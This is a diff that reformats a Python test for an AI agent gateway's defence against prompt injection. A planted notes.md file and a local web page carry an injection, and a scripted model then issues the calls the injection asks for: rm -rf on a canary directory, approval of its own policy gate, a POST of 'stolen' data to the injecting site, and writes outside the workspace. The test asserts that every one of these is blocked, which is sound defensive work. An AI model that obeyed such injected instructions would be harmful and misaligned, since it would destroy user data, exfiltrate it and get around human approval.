@@ -32,7 +32,7 @@ def injecting_site() -> Iterator[str]:
     body = INJECTION.encode()
 
     class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - http.server API
+        def do_GET(self) -> None:
             self.send_response(200)
             self.send_header("Content-Type", "text/plain")
             self.send_header("Content-Length", str(len(body)))
@@ -54,25 +54,34 @@ def _call(name: str, **args) -> Reply:
     return Reply(steps=[ToolCallStep(name=name, arguments=args)])
 
 
-async def test_injection_corpus_executes_no_high_risk_call(shared_server: ServerProcess, model,
-                                                          injecting_site, tmp_path) -> None:
+async def test_injection_corpus_executes_no_high_risk_call(
+    shared_server: ServerProcess, model, injecting_site, tmp_path
+) -> None:
     canary_dir = tmp_path / "precious"
     canary_dir.mkdir()
     (canary_dir / "data.csv").write_text("keep me\n")
     (shared_server.root / "notes.md").write_text(INJECTION.format(canary_dir=canary_dir))
     async with GatewayClient(shared_server.ws_url, token=shared_server.token) as c:
         policy = (await c.request("policy.get", {}))["policy"]
-        await c.request("policy.update", {"patch": {"gateTimeoutSec": 1,
-                                                    "network": {"allow": [injecting_site]}},
-                                          "expectedVersion": policy["version"]})
+        await c.request(
+            "policy.update",
+            {
+                "patch": {"gateTimeoutSec": 1, "network": {"allow": [injecting_site]}},
+                "expectedVersion": policy["version"],
+            },
+        )
         try:
             model.enqueue(
                 _call("file.read", path="notes.md"),
                 # obeying the file: destructive command, self-approval, exfiltration, overwrite
                 _call("bash.exec", command=f"rm -rf {canary_dir}"),
                 _call("policy-gate.resolve", gateId="any", decision="approve"),
-                _call("http.request", url=f"http://{injecting_site}/upload", method="POST",
-                      body="stolen"),
+                _call(
+                    "http.request",
+                    url=f"http://{injecting_site}/upload",
+                    method="POST",
+                    body="stolen",
+                ),
                 _call("file.write", path="../outside.txt", content="pwned"),
                 _call("file.write", path="report.md", content="overwritten"),
                 # the web page repeats the injection
@@ -85,13 +94,27 @@ async def test_injection_corpus_executes_no_high_risk_call(shared_server: Server
             final = (await c.request("policy.get", {}))["policy"]
         finally:
             now = (await c.request("policy.get", {}))["policy"]
-            await c.request("policy.update", {"patch": {"gateTimeoutSec": 900, "network": {"allow": []}},
-                                              "expectedVersion": now["version"]})
-    results = {e["payload"]["toolCallId"]: e["payload"] for e in events if e["event"] == "agent.tool_result"}
+            await c.request(
+                "policy.update",
+                {
+                    "patch": {"gateTimeoutSec": 900, "network": {"allow": []}},
+                    "expectedVersion": now["version"],
+                },
+            )
+    results = {
+        e["payload"]["toolCallId"]: e["payload"]
+        for e in events
+        if e["event"] == "agent.tool_result"
+    }
     calls = [e["payload"] for e in events if e["event"] == "agent.tool_call"]
-    gated = {e["payload"]["gate"]["toolCallId"] for e in events if e["event"] == "policy-gate.requested"}
-    executed_high_risk = [c for c in calls if c["toolCallId"] in gated
-                          and results[c["toolCallId"]]["status"] == "success"]
+    gated = {
+        e["payload"]["gate"]["toolCallId"] for e in events if e["event"] == "policy-gate.requested"
+    }
+    executed_high_risk = [
+        c
+        for c in calls
+        if c["toolCallId"] in gated and results[c["toolCallId"]]["status"] == "success"
+    ]
     assert executed_high_risk == []
     # the destructive, exfiltrating and out-of-scratch calls were all gated and none approved
     by_tool = [(c["toolName"], results[c["toolCallId"]]["status"]) for c in calls]
@@ -99,7 +122,9 @@ async def test_injection_corpus_executes_no_high_risk_call(shared_server: Server
     # not a tool: the model cannot approve its own gates
     assert any(name.startswith("policy-gate") and status == "failed" for name, status in by_tool)
     assert by_tool[0] == ("file.read", "success") and by_tool[6] == ("http.request", "success")
-    assert all(status != "success" for name, status in by_tool if name in ("bash.exec", "python.exec"))
+    assert all(
+        status != "success" for name, status in by_tool if name in ("bash.exec", "python.exec")
+    )
     # nothing it asked for happened
     assert (canary_dir / "data.csv").read_text() == "keep me\n"
     assert not (shared_server.root.parent / "outside.txt").exists()
